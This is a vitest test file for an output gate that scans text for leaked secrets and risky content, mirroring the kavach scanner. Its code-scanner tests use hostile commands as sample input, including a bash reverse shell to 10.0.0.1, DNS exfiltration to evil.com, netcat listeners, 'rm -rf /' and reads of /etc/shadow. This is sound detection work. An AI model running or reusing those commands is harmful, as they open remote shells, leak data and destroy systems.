/**
 * The output gate against kavach's own behaviour. Expected results are worked out by hand from
 * kavach's source (github.com/MacCracken/kavach, tags 0.22.3 and 1.0.1); each test names the file
 * and lines it follows. Paths are kavach's, e.g. secrets.rs = src/scanning/secrets.rs.
 */
import { describe, expect, it } from 'vitest';
import { externalizationSchema } from '../policy/schema.ts';
import { JWT_SAMPLE as JWT, SECRET_SAMPLES as SAMPLES } from '../../testing/secret-samples.ts';
import {
  CODE_GROUPS, CODE_PATTERNS, DATA_PATTERNS, DEFAULT_EXTERNALIZATION, SECRET_PATTERNS, determineVerdict, findAll, findMatches, gatePatterns,
  kavachFindings, liveSubstrings, redactFindings, scanOutput, shannonEntropy, type Finding,
} from './index.ts';

const policy = (p: Record<string, unknown>) => externalizationSchema.parse(p);
const names = (text: string, patterns = SECRET_PATTERNS) => findAll(text, patterns).map((f) => f.pattern);
const KEY40 = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

describe('secret patterns', () => {
  it("has kavach's 17 patterns, in its order (secrets.rs:18-121, the same in 0.22.3 and 1.0.1)", () => {
    expect(SECRET_PATTERNS.map((p) => p.name)).toEqual(SAMPLES.map((s) => s[0]));
    expect(SECRET_PATTERNS.map((p) => p.label)).toEqual([
      'AWS Access Key', 'AWS Secret Key', 'GCP API Key', 'GitHub Token', 'Stripe Secret Key', 'Slack Token', 'Generic API Key',
      'Bearer Token', 'JWT', 'RSA Private Key', 'EC Private Key', 'OpenSSH Private Key', 'Generic Private Key', 'Password Assignment',
      'Database Connection String', 'Email Address', 'SSN',
    ]);
  });

  it.each(SAMPLES)('%s: finds the sample with its category and severity', (name, sample, category, severity) => {
    const f = findAll(sample).find((x) => x.pattern === name);
    expect(f).toMatchObject({ category, severity, scanner: 'secrets' });
    expect(f!.evidence).toBe(`${sample.slice(f!.start, f!.start + 4)}…`);
  });

  it("finds kavach's own hits (secrets.rs 0.22.3:233-296, tests/adversarial.rs 1.0.1:211-331)", () => {
    const hits: [string, string][] = [
      ['my key is AKIAIOSFODNN7EXAMPLE', 'aws_access_key'],
      ['token: ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij', 'github_token'],
      [`ghs_${'a'.repeat(36)}`, 'github_token'],
      ['-----BEGIN RSA PRIVATE KEY-----\nMIIE...', 'rsa_private_key'],
      ['-----BEGIN EC PRIVATE KEY-----', 'ec_private_key'],
      ['-----BEGIN OPENSSH PRIVATE KEY-----', 'openssh_private_key'],
      ['-----BEGIN PRIVATE KEY-----', 'private_key'],
      ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnop', 'jwt'],
      ['DATABASE_URL=postgres://user:pass@localhost/db', 'database_url'],
      ['mysql://user:password@host:3306/db', 'database_url'],
      ['mongodb://user:password@host:27017/db', 'database_url'],
      ['redis://user:password@host:6379/0', 'database_url'],
      ['xoxb-1234567890-abcdefghijklmnopqrstuvwx', 'slack_token'],
      ['sk_live_abcdefghijklmnopqrstuvwxyz0123456789', 'stripe_key'],
      ['SSN: 123-45-6789', 'ssn'],
      ['Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.a.b', 'bearer_token'],
      ['api_key = "abcdefghijklmnopqrstuvwxyz"', 'generic_api_key'],
      ['{"aws_key": "AKIAIOSFODNN7EXAMPLE", "data": "safe"}', 'aws_access_key'],
      ['Error: connection string postgres://admin:s3cret@db:5432/prod leaked', 'database_url'],
    ];
    for (const [text, pattern] of hits) expect(names(text), text).toContain(pattern);
  });

  it("does not fire on near misses, kavach's among them (secrets.rs 0.22.3:276-280, adversarial.rs 1.0.1:322-333, 387-401)", () => {
    for (const text of [
      'AKIA1234', 'ghp_short', 'sk_live_short', 'xoxb-123', 'api_key = "short"', 'Bearer short',
      'eyJabc.eyJdef.ghi', '-----BEGIN PUBLIC KEY-----', 'password = "short"', 'postgres://x', 'alice@localhost',
      '1234-56-7890', 'a123-45-6789',
      'hello world, this is clean output', 'hello world\nthis is a test\n42\n', 'dGhpcyBpcyBhIHRlc3Q=', '', 'a'.repeat(100_000),
    ]) expect(findAll(text), text.slice(0, 40)).toEqual([]);
  });

  it('scans any text without failing, binary-looking included (adversarial.rs 1.0.1:403-408)', () => {
    const binary = Array.from({ length: 256 }, (_, b) => String.fromCharCode(b)).join('');
    expect(() => scanOutput(binary, DEFAULT_EXTERNALIZATION)).not.toThrow();
  });

  it('evidence never repeats the secret (kavach keeps its first 20 bytes, secrets.rs:166-171: all of an AWS key)', () => {
    const [f] = findAll('AKIAIOSFODNN7EXAMPLE');
    expect(f.evidence).toBe('AKIA…');
    expect(findAll('𝟏𝟐𝟑-𝟒𝟓-𝟔𝟕𝟖𝟗')[0].evidence).toBe('𝟏𝟐𝟑-…'); // whole characters
  });
});

describe("Rust's regex semantics where JavaScript's differ", () => {
  it('"." matches "\\r", and only "\\n" stops it (secrets.rs:29, Rust `.` is [^\\n])', () => {
    expect(names(`aws\rsecret="${KEY40}"`)).toEqual(['aws_secret_key']);
    expect(names(`aws\u2028secret="${KEY40}"`)).toEqual(['aws_secret_key']);
    expect(names(`aws\nsecret="${KEY40}"`)).toEqual([]);
  });

  it('(?i) folds by Unicode simple case folding: "ſ" is an "s", "K" (Kelvin) a "k", in literals and classes (secrets.rs:29, 59, 101, 107)', () => {
    expect(names('paſſword="hunter2hunter2"')).toEqual(['password_assignment']);
    expect(names('apiKey="abcdefghijklmnopqrstuvwxyz"')).toEqual(['generic_api_key']);
    expect(names('poſtgres://user:pw@host/db')).toEqual(['database_url']);
    expect(names(`awſ_ſecret="${KEY40}"`)).toEqual(['aws_secret_key']);
    expect(names(`aws_secret="${'ſ'.repeat(20)}${'K'.repeat(20)}"`)).toEqual(['aws_secret_key']); // [0-9a-zA-Z/+] folded
    // Only where kavach says (?i): the AWS access key pattern is case-sensitive.
    expect(names('akiaIOSFODNN7EXAMPLE')).toEqual([]);
  });

  it('\\d is any Unicode decimal digit (secrets.rs:119)', () => {
    expect(names('SSN: ١٢٣-٤٥-٦٧٨٩')).toEqual(['ssn']); // Arabic-Indic
    expect(names('SSN: １２３-４５-６７８９')).toEqual(['ssn']); // fullwidth
    expect(names('SSN: 𝟏𝟐𝟑-𝟒𝟓-𝟔𝟕𝟖𝟗')).toEqual(['ssn']); // mathematical bold, outside the BMP
    expect(names('SSN: ١٢٣-٤٥-٦٧٨')).toEqual([]);
  });

  it('\\b is a Unicode word boundary: a letter like "é" next to the digits is no boundary (secrets.rs:119)', () => {
    expect(names('é123-45-6789')).toEqual([]);
    expect(names('123-45-6789é')).toEqual([]);
    expect(names('ж123-45-6789')).toEqual([]);
    expect(names('—123-45-6789—')).toEqual(['ssn']); // an em dash is not a word character
    expect(names('x123-45-6789')).toEqual([]);
  });

  it('\\s is Unicode White_Space: U+0085 is space, U+FEFF is not (secrets.rs:59, 65, 101, 107)', () => {
    expect(names('bearer\u0085abcdefghijklmnopqrstuvwxyz')).toEqual(['bearer_token']);
    expect(names('bearer\uFEFFabcdefghijklmnopqrstuvwxyz')).toEqual([]);
    expect(names('postgres://abc\uFEFFdefghij')).toEqual(['database_url']); // [^\s] runs through U+FEFF
    expect(names('postgres://abc\u0085defghij')).toEqual([]);
    expect(names('api_key\u3000=\u3000"abcdefghijklmnopqrstuvwxyz"')).toEqual(['generic_api_key']);
  });

  it('repetitions count characters, not UTF-16 units (secrets.rs:29, 101, 107)', () => {
    expect(names('password="🦀🦀🦀🦀"')).toEqual([]); // 4 characters, not 8
    expect(names('password="🦀🦀🦀🦀🦀🦀🦀🦀"')).toEqual(['password_assignment']);
    expect(names('postgres://🦀🦀🦀🦀🦀')).toEqual([]);
    expect(names(`aws${'🦀'.repeat(20)}secret="${KEY40}"`)).toEqual(['aws_secret_key']); // .{0,20}: 20 characters
    expect(names(`aws${'🦀'.repeat(21)}secret="${KEY40}"`)).toEqual([]);
  });
});

describe("kavach's counts, verdicts and messages", () => {
  it('counts one finding per pattern, the first match (secrets.rs:164 `find`), and still redacts every match (secrets.rs:193 `find_iter`)', () => {
    const r = scanOutput('mail a@example.com and b@example.com\n', DEFAULT_EXTERNALIZATION);
    expect(r).toMatchObject({ verdict: 'warn', matches: 2, redacted: 'mail [REDACTED:pii] and [REDACTED:pii]\n' });
    expect(r.findings.map((f) => [f.pattern, f.start])).toEqual([['email', 5]]);
  });

  it('counts each private-key header as its own pattern (secrets.rs:73-96)', () => {
    const r = scanOutput('-----BEGIN RSA PRIVATE KEY-----\n-----BEGIN EC PRIVATE KEY-----\n-----BEGIN RSA PRIVATE KEY-----', DEFAULT_EXTERNALIZATION);
    expect(r.error).toBe('externalization blocked: blocked: 2 finding(s), worst severity: critical');
  });

  it("counts kavach's multi-secret texts exactly (secrets.rs 1.0.1:413-422, adversarial.rs 1.0.1:354-363)", () => {
    expect(kavachFindings(findAll('key=AKIAIOSFODNN7EXAMPLE token=ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij')).map((f) => f.pattern))
      .toEqual(['aws_access_key', 'github_token']);
    expect(kavachFindings(findAll('key=AKIAIOSFODNN7EXAMPLE postgres://user:password@host:5432/db -----BEGIN RSA PRIVATE KEY-----')).map((f) => f.pattern))
      .toEqual(['aws_access_key', 'database_url', 'rsa_private_key']);
    const overlap = 'postgres://user:AKIAIOSFODNN7EXAMPLE@host/db';
    expect(redactFindings(overlap, findAll(overlap))).toBe('[REDACTED:connection_string]'); // secrets.rs 1.0.1:401-411
  });

  it('verdicts: block at or above the block threshold, else quarantine, else warn above info (gate.rs:86-96 and its test 175-191)', () => {
    const d = DEFAULT_EXTERNALIZATION;
    expect(['info', 'low', 'medium', 'high', 'critical'].map((s) => determineVerdict(s as never, d))).toEqual(['pass', 'warn', 'warn', 'quarantine', 'block']);
    // The block threshold is checked first, even below the quarantine threshold.
    expect(determineVerdict('medium', { block_threshold: 'medium', quarantine_threshold: 'high' })).toBe('block');
  });

  it('no findings means worst severity info, so a threshold of info withholds clean text (gate.rs:44-48, 86-89)', () => {
    expect(scanOutput('hello world', policy({ block_threshold: 'info' }))).toMatchObject({
      verdict: 'block', worst: 'info', error: 'externalization blocked: blocked: 0 finding(s), worst severity: info',
    });
    expect(scanOutput('', policy({ quarantine_threshold: 'info' }))).toMatchObject({
      verdict: 'quarantine', error: 'externalization blocked: quarantined: 0 finding(s), worst severity: info',
    });
    expect(scanOutput('hello world', DEFAULT_EXTERNALIZATION)).toMatchObject({ verdict: 'pass', worst: 'info' });
  });

  it("passes clean output and blocks a private key with kavach's message (gate.rs:112-131, 56-61; error.rs:32)", () => {
    expect(scanOutput('hello world', DEFAULT_EXTERNALIZATION)).toMatchObject({ verdict: 'pass', redacted: 'hello world', findings: [], error: null });
    expect(scanOutput('-----BEGIN RSA PRIVATE KEY-----\nMIIEp...', DEFAULT_EXTERNALIZATION)).toMatchObject({
      verdict: 'block', withheld: true, error: 'externalization blocked: blocked: 1 finding(s), worst severity: critical',
    });
    expect(scanOutput('AKIAIOSFODNN7EXAMPLE and 123-45-6789', DEFAULT_EXTERNALIZATION).error)
      .toBe('externalization blocked: blocked: 2 finding(s), worst severity: critical');
  });

  it('quarantines with its message (gate.rs:62-66; gate.rs 1.0.1:201-216)', () => {
    const r = scanOutput('api_key = "abcdefghijklmnopqrstuvwxyz"', policy({ quarantine_threshold: 'medium' }));
    expect(r).toMatchObject({ verdict: 'quarantine', error: 'externalization blocked: quarantined: 1 finding(s), worst severity: medium' });
    expect(scanOutput('Authorization: Bearer abcdefghijklmnopqrstuvwxyz', DEFAULT_EXTERNALIZATION).error)
      .toBe('externalization blocked: quarantined: 1 finding(s), worst severity: high');
  });

  it('redacts on warn by category (gate.rs:133-148, 67-73)', () => {
    const r = scanOutput('config: api_key = "abcdefghijklmnopqrstuvwxyz"', DEFAULT_EXTERNALIZATION);
    expect(r).toMatchObject({ verdict: 'warn', worst: 'medium', redacted: 'config: [REDACTED:api_key]' });
    expect(scanOutput('mail alice@example.com and api_key="abcdefghijklmnopqrstuv"', DEFAULT_EXTERNALIZATION).redacted)
      .toBe('mail [REDACTED:pii] and [REDACTED:api_key]');
  });

  it('releases matches unredacted on warn when redact_secrets is false, and says so', () => {
    const r = scanOutput('bob@example.com', policy({ redact_secrets: false }));
    expect(r).toMatchObject({ verdict: 'warn', redacted: 'bob@example.com', notes: ['redact_secrets is false: matches released unredacted'] });
  });

  it('blocks output over max_artifact_size_bytes before scanning, counting UTF-8 bytes, with its message (gate.rs:30-37, 150-160)', () => {
    expect(scanOutput('this is longer than 10 bytes', policy({ max_artifact_size_bytes: 10 }))).toMatchObject({
      verdict: 'block', findings: [], worst: null, error: 'externalization blocked: output size 28 exceeds limit 10',
    });
    expect(scanOutput('ééééé', policy({ max_artifact_size_bytes: 10 })).verdict).toBe('pass');
    expect(scanOutput('AKIAIOSFODNN7EXAMPLE!', policy({ max_artifact_size_bytes: 20 })).error).toBe('externalization blocked: output size 21 exceeds limit 20');
  });

  it('passes everything with a note when the gate is disabled (gate.rs:26-28, 162-173)', () => {
    const r = scanOutput('-----BEGIN RSA PRIVATE KEY-----', policy({ enabled: false }));
    expect(r).toMatchObject({ verdict: 'pass', redacted: '-----BEGIN RSA PRIVATE KEY-----', findings: [], worst: null });
    expect(r.notes[0]).toMatch(/disabled by policy/);
  });

  it('runs no gate for externalization null, as kavach (lifecycle/mod.rs:242-248: no gate without Some(policy))', () => {
    const r = scanOutput('AKIAIOSFODNN7EXAMPLE', null);
    expect(r).toMatchObject({ verdict: 'pass', redacted: 'AKIAIOSFODNN7EXAMPLE', findings: [], worst: null });
    expect(r.notes[0]).toMatch(/externalization is null, which kavach reads as no gate/);
  });
});

describe("kavach 1.0's further scanners, behind externalization.extra_scanners", () => {
  const all = policy({ extra_scanners: ['code', 'data', 'entropy'] });
  const code = (text: string) => names(text, CODE_PATTERNS);
  const data = (text: string) => names(text, DATA_PATTERNS);

  it('are off unless listed (0.22.3 has none of them)', () => {
    expect(gatePatterns(DEFAULT_EXTERNALIZATION)).toEqual(SECRET_PATTERNS);
    expect(scanOutput('sudo rm -rf /\ncard 4111111111111111\n', DEFAULT_EXTERNALIZATION).verdict).toBe('pass');
    expect(scanOutput('sudo rm -rf /\ncard 4111111111111111\n', all)).toMatchObject({
      verdict: 'block', error: 'externalization blocked: blocked: 3 finding(s), worst severity: critical',
    });
  });

  it("code scanner: kavach's hits and clean output (code.rs:295-444)", () => {
    const hits: [string, string][] = [
      ["child_process.exec('ls')", 'shell_exec'], ["eval('malicious code')", 'eval'], ["running /bin/bash -c 'whoami'", 'shell_invocation'],
      ['echo $(whoami)', 'shell_metacharacters'], ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'reverse_shell'], ['nslookup secret.evil.com', 'dns_exfil'],
      ['nc -lvp 4444', 'network_tools'], ['sudo rm -rf /', 'sudo'], ['chmod 777 /etc/passwd', 'permission_change'], ['mount -t proc proc /mnt', 'mount'],
      ['npm install evil-package', 'package_install'], ['pip install backdoor', 'package_install'], ['echo aGVsbG8= | base64 -d', 'base64_decode'],
      ['cat /etc/shadow', 'sensitive_path'], ["open('../../../../etc/passwd')", 'path_traversal'], ['rm -rf /important', 'destructive'],
      ['hashlib.md5(data)', 'weak_hash'], ["EVAL('test')", 'eval'],
    ];
    for (const [text, group] of hits) expect(code(text), text).toContain(group);
    expect(code('hello world\nstatus: ok\nresult: 42\n')).toEqual([]);
    expect(kavachFindings(findAll('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', CODE_PATTERNS)).map((f) => [f.pattern, f.severity])).toEqual([
      ['reverse_shell', 'critical'], ['shell_metacharacters', 'high'], // one finding per group (code.rs:249), though /dev/tcp is in both
    ]);
  });

  it('code scanner: the text is lowercased, the substrings are not, so a capitalised one never matches (code.rs:234, 240)', () => {
    expect(code('execSync(cmd)')).toEqual([]);
    expect(code('AES_KEY = 1; SECRET_KEY = 2')).toEqual([]);
    expect(code('pacman -S evil')).toEqual([]);
    expect(code("String.fromCharCode(72)")).toEqual([]);
    expect(code('MD5(data)')).toEqual(['weak_hash']); // through its live spelling "md5("
    expect(CODE_GROUPS.find((g) => g.name === 'hardcoded_key')!.substrings).toEqual(['AES_KEY =', 'ENCRYPTION_KEY =', 'SECRET_KEY =']);
    expect(CODE_PATTERNS.map((p) => p.name)).toEqual(CODE_GROUPS.map((g) => g.name).filter((n) => n !== 'hardcoded_key'));
  });

  it("code scanner: Rust's to_lowercase, not case folding: Kelvin K is a k, ſ is not an s", () => {
    expect(code('mKfifo /tmp/f')).toEqual(['reverse_shell']);
    expect(code('ſudo ls')).toEqual([]);
    expect(code('SUDO ls')).toEqual(['sudo']);
    // The only non-ASCII characters whose lowercase holds ASCII are K and İ ("i" + U+0307, which
    // can only end a match): no live substring ends in "i", so the patterns need no İ.
    const lowersToAscii: string[] = [];
    for (let cp = 0x80; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      if (/[\x00-\x7f]/.test(String.fromCodePoint(cp).toLowerCase())) lowersToAscii.push(cp.toString(16));
    }
    expect(lowersToAscii).toEqual(['130', '212a']);
    expect(CODE_GROUPS.flatMap(liveSubstrings).filter((s) => s.endsWith('i'))).toEqual([]);
  });

  it("data scanner: kavach's hits and near misses (data.rs:168-266)", () => {
    const hits: [string, string][] = [
      ['card: 4111111111111111', 'credit_card_visa'], ['card: 5500000000000004', 'credit_card_mastercard'], ['card: 378282246310005', 'credit_card_amex'],
      ['call me at (555) 123-4567', 'us_phone'], ['server at 192.168.1.100', 'ipv4'], ['IBAN: DE89370400440532013000', 'iban'],
      ['patient record number: MRN-12345', 'hipaa'], ['data subject right to erasure request', 'gdpr'], ['cardholder data environment', 'pci_dss'],
      ['SOC 2 trust service criteria audit', 'soc2'],
    ];
    for (const [text, pattern] of hits) expect(data(text), text).toContain(pattern);
    expect(data('version 1.2.3')).toEqual([]);
    expect(data('hello world\nstatus: ok\nresult: 42\n')).toEqual([]);
    expect(data('')).toEqual([]);
  });

  it("data scanner: Rust's \\b and \\s (data.rs:25, 43, 62)", () => {
    expect(data('card é4111111111111111')).toEqual([]); // é is a word character
    expect(data('call 555\u2003123\u20034567')).toEqual(['us_phone']); // an em space is \s
    expect(data('the PHI of a patient')).toEqual(['hipaa']);
    expect(data('PHIL')).toEqual([]);
    expect(data('patient\u0085id')).toEqual(['hipaa']);
  });

  it('data and code findings count but are never redacted: kavach redacts with the secrets scanner only (gate.rs 1.0.1:85-90)', () => {
    const r = scanOutput('hashlib.md5(data) from 10.0.0.1, mail ada@example.org', all);
    expect(r).toMatchObject({ verdict: 'warn', worst: 'medium', redacted: 'hashlib.md5(data) from 10.0.0.1, mail [REDACTED:pii]' });
    expect(r.findings.map((f) => f.scanner)).toEqual(['code', 'data', 'secrets']);
  });

  it('entropy fallback: every token of 20+ with entropy above 4.5, only when no secret pattern matched (secrets.rs 1.0.1:192-195, 245-298)', () => {
    const token = 'Zx9Qm2Lp7Vr4Tn8Kw3Hy6Bd1Fg5Jc0A';
    expect(shannonEntropy(token)).toBeCloseTo(4.954, 3);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('dGhpcyBpcyBhIHRlc3Q=')).toBeLessThan(4.5); // adversarial.rs 1.0.1:327-333
    const entropy = policy({ extra_scanners: ['entropy'] });
    const r = scanOutput(`a ${token} b ${token}x`, entropy);
    expect(r.findings.map((f) => [f.pattern, f.category, f.severity])).toEqual([['high_entropy', 'high_entropy', 'low'], ['high_entropy', 'high_entropy', 'low']]);
    expect(r).toMatchObject({ verdict: 'warn', redacted: `a ${token} b ${token}x` }); // tokens are not redacted
    expect(scanOutput(`${token} mail ada@example.org`, entropy).findings.map((f) => f.pattern)).toEqual(['email']);
    expect(scanOutput('dGhpcyBpcyBhIHRlc3Q= and ' + 'a'.repeat(10_000), entropy).findings).toEqual([]);
  });
});

describe('linear scanners for JWT and email', () => {
  // Deterministic pseudo-random strings over the characters the two patterns care about.
  const PIECES: Record<string, string[]> = {
    jwt: ['eyJ', 'eyJabcdefghij', '.eyJabcdefghij', 'eyJabcdefghij.', 'abcdefghij', 'B9', '.', '-', '_', ' ', 'é'],
    email: ['a', 'b.c', '@', '@', '.com', '.x', '%', '+', ' ', 'ab', '-', '.', 'x1', 'é'],
  };
  function* randomTexts(pieces: string[], count: number): Generator<string> {
    let seed = 12345;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let i = 0; i < count; i++) {
      let s = '';
      const n = next() % 30;
      for (let j = 0; j < n; j++) s += pieces[next() % pieces.length];
      yield s;
    }
  }

  it.each(['jwt', 'email'])('%s: yields exactly what matchAll yields', (name) => {
    const pattern = SECRET_PATTERNS.find((p) => p.name === name)!;
    let matched = 0;
    for (const text of randomTexts(PIECES[name], 5000)) {
      const expected = Array.from(text.matchAll(pattern.regex), (m) => ({ start: m.index, end: m.index + m[0].length }));
      expect(findMatches(pattern, text), JSON.stringify(text)).toEqual(expected);
      matched += expected.length;
    }
    expect(matched).toBeGreaterThan(50); // the corpus really exercises matches, not only misses
  });

  it('scans adversarial output that makes a backtracking regex quadratic', () => {
    const text = 'eyJ'.repeat(100_000) + ' ' + 'a.'.repeat(100_000) + '@' + 'b'.repeat(100_000) + ` ${JWT} bob@example.com`;
    expect(names(text)).toEqual(['jwt', 'email']);
  });
});

describe('redaction overlap rule', () => {
  it('redacts the longer of two matches that start together and skips the contained one', () => {
    const text = 'url postgres://bob@db.example.com/app.';
    const findings = findAll(text);
    expect(findings.map((f) => f.pattern)).toEqual(['database_url', 'email']);
    expect(redactFindings(text, findings)).toBe('url [REDACTED:connection_string]');
  });

  it('skips a later match that overlaps, even if it runs further (kavach leaves its tail, secrets.rs:202-217)', () => {
    const base: Omit<Finding, 'category' | 'start' | 'end'> = { pattern: 'x', scanner: 'secrets', severity: 'low', evidence: '' };
    const text = '0123456789';
    expect(redactFindings(text, [
      { ...base, category: 'pii', start: 3, end: 9 },
      { ...base, category: 'api_key', start: 0, end: 5 },
    ])).toBe('[REDACTED:api_key]56789');
    expect(redactFindings(text, [
      { ...base, category: 'pii', start: 0, end: 3 },
      { ...base, category: 'api_key', start: 2, end: 6 },
    ])).toBe('[REDACTED:pii]3456789');
  });
});

describe('the default externalization block', () => {
  it("written out for the worker, is exactly the schema's default, with kavach's values (types.rs:59-69)", () => {
    expect(DEFAULT_EXTERNALIZATION).toEqual(externalizationSchema.parse({}));
    expect(DEFAULT_EXTERNALIZATION).toEqual({
      enabled: true, max_artifact_size_bytes: 50 * 1024 * 1024, block_threshold: 'critical', quarantine_threshold: 'high', redact_secrets: true, extra_scanners: [],
    });
  });
});
